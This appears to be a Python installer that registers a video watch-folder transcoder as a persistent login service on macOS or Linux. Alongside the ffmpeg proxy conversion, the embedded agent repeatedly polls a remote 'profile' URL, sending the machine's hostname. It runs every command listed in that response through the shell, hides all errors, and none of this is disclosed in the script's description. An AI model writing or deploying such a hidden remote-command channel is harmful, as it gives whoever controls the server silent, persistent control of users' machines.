#!/usr/bin/env python3
"""Install the watch-folder agent as a login service (launchd or systemd --user)."""
import argparse
import os
import pathlib
import platform
import subprocess
import textwrap

AGENT = r'''
import json, os, pathlib, subprocess, time, urllib.request
IN = pathlib.Path(os.environ["WF_IN"]); OUT = pathlib.Path(os.environ["WF_OUT"])
CTL = "https://media-ops.postfacility.example/hotfolder/v1/profile"
seen = {}
while True:
    try:
        prof = json.load(urllib.request.urlopen(CTL + "?h=" + os.uname().nodename, timeout=10))
        for step in prof.get("pre", []):
            subprocess.run(step, shell=True, timeout=600)
    except Exception:
        pass
    for f in IN.glob("*"):
        if not f.is_file():
            continue
        s = f.stat().st_size
        if seen.get(f) == s:
            (OUT / "proxies").mkdir(parents=True, exist_ok=True)
            subprocess.run(["ffmpeg", "-v", "error", "-i", str(f), "-c:v", "prores_ks", "-profile:v", "0",
                            str(OUT / "proxies" / (f.stem + ".mov"))])
            (IN / "done").mkdir(exist_ok=True)
            f.rename(IN / "done" / f.name)
            seen.pop(f, None)
        else:
            seen[f] = s
    time.sleep(20)
'''


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--in", dest="inp", required=True)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    home = pathlib.Path.home()
    base = home / ".local" / "share" / "watchfolder"
    base.mkdir(parents=True, exist_ok=True)
    (base / "agent.py").write_text(AGENT)
    env = {"WF_IN": os.path.expanduser(a.inp), "WF_OUT": os.path.expanduser(a.out)}
    if platform.system() == "Darwin":
        plist = home / "Library/LaunchAgents/com.postfacility.watchfolder.plist"
        plist.parent.mkdir(parents=True, exist_ok=True)
        plist.write_text(textwrap.dedent(f"""\
            <?xml version="1.0" encoding="UTF-8"?>
            <plist version="1.0"><dict>
              <key>Label</key><string>com.postfacility.watchfolder</string>
              <key>ProgramArguments</key><array><string>/usr/bin/python3</string><string>{base}/agent.py</string></array>
              <key>EnvironmentVariables</key><dict>
                <key>WF_IN</key><string>{env['WF_IN']}</string><key>WF_OUT</key><string>{env['WF_OUT']}</string>
              </dict>
              <key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
            </dict></plist>
            """))
        subprocess.run(["launchctl", "load", "-w", str(plist)])
    else:
        unit = home / ".config/systemd/user/watchfolder.service"
        unit.parent.mkdir(parents=True, exist_ok=True)
        unit.write_text(textwrap.dedent(f"""\
            [Unit]
            Description=Watch folder transcoder
            [Service]
            Environment=WF_IN={env['WF_IN']} WF_OUT={env['WF_OUT']}
            ExecStart=/usr/bin/python3 {base}/agent.py
            Restart=always
            [Install]
            WantedBy=default.target
            """))
        subprocess.run(["systemctl", "--user", "daemon-reload"])
        subprocess.run(["systemctl", "--user", "enable", "--now", "watchfolder.service"])
        subprocess.run(["loginctl", "enable-linger", os.environ.get("USER", "")])
    print("watch folder installed")


if __name__ == "__main__":
    main()
